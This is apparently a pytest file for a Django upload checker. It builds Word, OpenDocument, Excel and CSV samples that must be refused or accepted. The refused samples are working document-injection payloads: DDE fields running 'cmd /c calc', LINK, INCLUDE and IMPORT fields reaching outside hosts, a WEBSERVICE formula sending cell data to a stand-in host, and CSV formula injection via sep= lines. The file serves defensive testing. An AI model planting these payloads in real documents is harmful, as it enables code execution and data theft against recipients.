"""Issue 13 (attack13n item 5), the members of the classes nobody listed: the upload check reads
every Word field (runs split anywhere, any part: headers too; LINK, INCLUDE, IMPORT...), the
OpenDocument DDE links, the XLSX formulas in cells and defined names (DDE calls, WEBSERVICE),
and the separator a CSV declares with `sep=`. What is harmless in the same places still passes:
a PAGE field, a hyperlink field, a math fraction with |x|, a SUM formula, a pipe in text."""

import io

import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook
from openpyxl.workbook.defined_name import DefinedName

from security.uploads import DOCUMENT, check_upload
from tests.security import samples

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
M = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'


def docx_part(body: str, part: str = "word/document.xml") -> bytes:
    xml = f'<?xml version="1.0"?><w:document {W} {M}><w:body>{body}</w:body></w:document>'
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    parts = {"[Content_Types].xml": types, "word/document.xml": xml.encode()}
    if part != "word/document.xml":
        parts["word/document.xml"] = f"<w:document {W}><w:body/></w:document>".encode()
        parts[part] = xml.replace("w:document", "w:hdr").encode()
    return samples.zip_of(parts)


def field_runs(*pieces: str) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def xlsx_with(formula: str = "", defined: str = "") -> bytes:
    workbook = Workbook()
    workbook.active["A1"] = "Anggaran"
    if formula:
        workbook.active["B1"] = "=" + formula
    if defined:
        workbook.defined_names["Data"] = DefinedName("Data", attr_text=defined)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def odt_with(body: bytes) -> bytes:
    content = (
        b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
        b'opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:'
        b'text:1.0"><office:body><office:text>' + body + b"</office:text></office:body>"
        b"</office:document-content>"
    )
    return samples.zip_of(
        {"content.xml": content}, first=("mimetype", b"application/vnd.oasis.opendocument.text")
    )


REFUSED = {
    "ddeauto-split-over-runs": ("a.docx", docx_part(field_runs(" DD", "EAUTO cmd ", '"/c calc"'))),
    "dde-lower-case-in-a-header": (
        "a.docx",
        docx_part(field_runs(' dde cmd "/c calc" '), "word/header1.xml"),
    ),
    "nested-ddeauto": (
        "a.docx",
        docx_part(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 '
            "</w:instrText></w:r>" + field_runs(' DDEAUTO cmd "/c calc" ') + "<w:r><w:fldChar "
            'w:fldCharType="end"/></w:r></w:p>'
        ),
    ),
    "link-field-unc": (
        "a.docx",
        docx_part(field_runs(' LINK Excel.Sheet "\\\\\\\\h\\\\s.xlsx" ')),
    ),
    "include-field-old-name": ("a.docx", docx_part(field_runs(' INCLUDE "http://h.invalid/a" '))),
    "import-field-old-name": (
        "a.docx",
        docx_part(field_runs(' IMPORT "http://h.invalid/a.png" ')),
    ),
    "odt-dde-connection": (
        "a.odt",
        odt_with(
            b'<text:dde-connection-decls><text:dde-connection-decl office:name="x" '
            b'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="A"/>'
            b"</text:dde-connection-decls>"
        ),
    ),
    "xlsx-dde-in-a-defined-name": ("a.xlsx", xlsx_with(defined="cmd|' /C calc'!A0")),
    "xlsx-dde-inside-a-function": ("a.xlsx", xlsx_with(formula="SUM(msexcel|'\\..\\x'!A1)")),
    "xlsx-webservice": ("a.xlsx", xlsx_with(formula='WEBSERVICE("http://h.invalid/?"&A1)')),
    "csv-sep-colon": ("a.csv", b"sep=:\nnama:nilai\nBudi:=1+1\n"),
    "csv-sep-with-bom-and-crlf": (
        "a.csv",
        b"\xef\xbb\xbfsep=|\r\nnama|nilai\r\nBudi|@SUM(A1)\r\n",
    ),
}

ACCEPTED = {
    "page-and-hyperlink-fields": (
        "a.docx",
        docx_part(field_runs(" PAGE ") + field_runs(' HYPERLINK "https://ppid.example.go.id" ')),
    ),
    "math-fraction-with-bars": (
        "a.docx",
        docx_part(
            "<w:p><m:oMath><m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num></m:f></m:oMath></w:p>"
        ),
    ),
    "sum-formula-and-a-pipe-in-a-string": ("a.xlsx", xlsx_with(formula='SUM(B2:B9)&"a|b"')),
    "csv-pipe-in-text": ("a.csv", b"nama,catatan\nBudi,ya | tidak\n"),
    "csv-sep-pipe-values": ("a.csv", b"sep=|\nnama|nilai\nBudi|-1500\n"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_active_fields_formulas_and_declared_separators_are_refused(case):
    name, content = REFUSED[case]
    with pytest.raises(ValidationError):
        check_upload(content, name, DOCUMENT)


@pytest.mark.parametrize("case", ACCEPTED)
def test_harmless_fields_formulas_and_pipes_still_pass(case):
    name, content = ACCEPTED[case]
    check_upload(content, name, DOCUMENT)
